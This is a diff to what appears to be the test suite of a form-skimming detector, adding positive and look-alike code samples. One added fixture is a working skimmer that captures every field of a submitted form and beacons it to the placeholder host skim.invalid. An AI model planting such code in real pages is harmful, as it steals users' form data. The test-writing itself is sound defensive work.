@@ -11,6 +11,13 @@ examine(skimsForms, {
       weight: 'proof',
     },
     {
+      when: 'fields of a form are taken apart where they are gone through',
+      files: {
+        'index.js': `document.forms[0].addEventListener('submit', function () { const q = {}; for (const { name, value } of this.elements) q[name] = value; navigator.sendBeacon('https://skim.invalid/', JSON.stringify(q)); })`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'another file goes through the elements of a form that it is handed, and names its host nowhere else',
       files: {
         'index.mjs': `import { track } from './track.mjs'; export class Guard { constructor(form) { this.form = form; form.addEventListener('submit', () => this.submit()) } submit() { track(this.form) } }`,
@@ -199,9 +206,15 @@ examine(skimsForms, {
       },
     },
     {
+      when: 'a server gives elements, for a place on a map',
+      files: {
+        'index.js': `const location = process.argv[2]; (async () => { const r = await (await fetch('https://maps.invalid/?q=' + location)).json(); const el = r.rows[0].elements[0]; document.title = el.distance.value; await fetch('https://log.invalid', { method: 'POST', body: JSON.stringify({ km: el.distance.value }) }); })();`,
+      },
+    },
+    {
       when: 'the elements are those of a tree of syntax',
       files: {
-        'index.js': `exports.count = node => { const values = node.elements.map(one => one.value); return fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(values) }) }`,
+        'index.js': `exports.count = node => { const { location } = node; const values = node.elements.map(one => one.value); report(node.location.start, location); return fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(values) }) }`,
       },
     },
     {
